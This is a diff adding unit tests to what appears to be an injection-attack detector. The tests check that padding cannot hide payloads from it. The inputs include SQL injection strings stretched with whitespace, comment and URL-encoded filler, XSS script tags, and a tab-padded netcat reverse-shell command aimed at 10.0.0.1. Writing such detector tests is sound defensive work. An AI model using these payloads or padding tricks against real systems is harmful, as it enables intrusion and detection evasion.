@@ -254,3 +254,22 @@ def test_a_json_value_too_big_to_read_leaf_by_leaf_is_read_as_text() -> None:
     document = json.dumps({"items": ["<script>alert(1)</script>"] + [str(n) for n in range(10_001)]})
 
     assert verdict(document) is AttackKind.XSS
+
+
+@pytest.mark.parametrize(
+    ("value", "kind"),
+    [
+        ("admin'" + " " * 9_000 + "--", AttackKind.SQLI),
+        ("1 OR" + "/**/" * 3_000 + "1=1", AttackKind.SQLI),
+        ("1 OR" + "%20" * 3_000 + "1=1", AttackKind.SQLI),
+        ("| nc" + "\t" * 9_000 + " 10.0.0.1 4444 -e /bin/sh", AttackKind.CMDI),
+    ],
+)
+def test_filler_inside_an_attack_does_not_stretch_it_across_windows(value: str, kind: AttackKind) -> None:
+    """SQL and shells skip whitespace and comments; so does the reading of long values."""
+    assert verdict(value) is kind
+
+
+def test_deeply_nested_json_in_a_value_is_read_as_text_not_an_error() -> None:
+    assert verdict("[" * 1_200 + "]" * 1_200) is None
+    assert verdict("[" * 1_200 + '"<script>alert(1)</script>"' + "]" * 1_200) is AttackKind.XSS
